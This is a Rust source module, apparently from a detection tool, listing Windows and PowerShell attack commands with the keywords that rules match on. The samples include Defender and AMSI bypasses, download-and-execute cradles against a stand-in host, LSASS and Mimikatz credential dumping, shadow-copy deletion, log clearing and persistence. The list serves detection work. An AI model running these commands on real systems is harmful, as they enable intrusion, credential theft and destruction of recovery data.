//! Commands that rules look for.

/// A command, and the words in it that a rule looks for.
pub(crate) struct Family {
    pub(crate) command: &'static str,
    pub(crate) words: &'static [&'static str],
}

const fn family(command: &'static str, words: &'static [&'static str]) -> Family {
    Family { command, words }
}

pub(crate) const FAMILIES: &[Family] = &[
    family("Enable-PSRemoting -Force", &["Enable-PSRemoting"]),
    family("New-LocalUser -Name backup -NoPassword", &["New-LocalUser -Name"]),
    family(
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        &["Set-MpPreference", "-DisableRealtimeMonitoring"],
    ),
    family(
        "Add-MpPreference -ExclusionPath C:\\ProgramData",
        &["Add-MpPreference", "-ExclusionPath"],
    ),
    family("Invoke-Mimikatz -DumpCreds", &["Invoke-Mimikatz"]),
    family(
        "Invoke-WebRequest http://a.example/p.ps1 -OutFile C:\\Users\\Public\\p.ps1",
        &["Invoke-WebRequest"],
    ),
    family(
        "(New-Object Net.WebClient).DownloadString('http://a.example/a') | iex",
        &["Net.WebClient", "DownloadString("],
    ),
    family(
        "(New-Object System.Net.WebClient).DownloadFile('http://a.example/a.exe','C:\\Temp\\a.exe')",
        &["System.Net.WebClient", "DownloadFile("],
    ),
    family(
        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        &["System.Management.Automation.AmsiUtils", "amsiInitFailed"],
    ),
    family(
        "Start-BitsTransfer -Source http://a.example/a -Destination C:\\Temp\\a",
        &["Start-BitsTransfer"],
    ),
    family(
        "Get-ADUser -Filter * -Properties ServicePrincipalName",
        &["Get-ADUser", "ServicePrincipalName"],
    ),
    family("Invoke-BloodHound -CollectionMethod All", &["Invoke-BloodHound"]),
    family("Stop-Service -Name WinDefend -Force", &["Stop-Service", "WinDefend"]),
    family(
        "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }",
        &["Win32_ShadowCopy"],
    ),
    family("vssadmin delete shadows /all /quiet", &["vssadmin delete shadows"]),
    family("wevtutil cl Security", &["wevtutil cl"]),
    family("Clear-EventLog -LogName Security", &["Clear-EventLog"]),
    family(
        "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
        &["comsvcs.dll", "MiniDump"],
    ),
    family("Register-ScheduledTask -TaskName upd -Action $action", &["Register-ScheduledTask"]),
    family("schtasks /create /tn upd /tr calc.exe /sc onlogon", &["schtasks /create"]),
    family(
        "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value a.exe",
        &["CurrentVersion\\Run"],
    ),
    family("Invoke-Kerberoast -OutputFormat Hashcat", &["Invoke-Kerberoast"]),
    family(
        "Compress-Archive -Path C:\\Data -DestinationPath C:\\Temp\\d.zip",
        &["Compress-Archive"],
    ),
    family("net user hacker P4ss /add", &["net user hacker"]),
    family(
        "Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender",
        &["Disable-WindowsOptionalFeature"],
    ),
    family("Set-ExecutionPolicy Bypass -Scope Process", &["Set-ExecutionPolicy Bypass"]),
    family("Export-PfxCertificate -FilePath C:\\Temp\\c.pfx", &["Export-PfxCertificate"]),
    family("Get-Process lsass | Out-Minidump", &["Out-Minidump"]),
    family(
        "Invoke-Command -ComputerName SRV01 -ScriptBlock { whoami }",
        &["Invoke-Command", "whoami"],
    ),
    family(
        "[System.Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)",
        &["GetDelegateForFunctionPointer"],
    ),
];
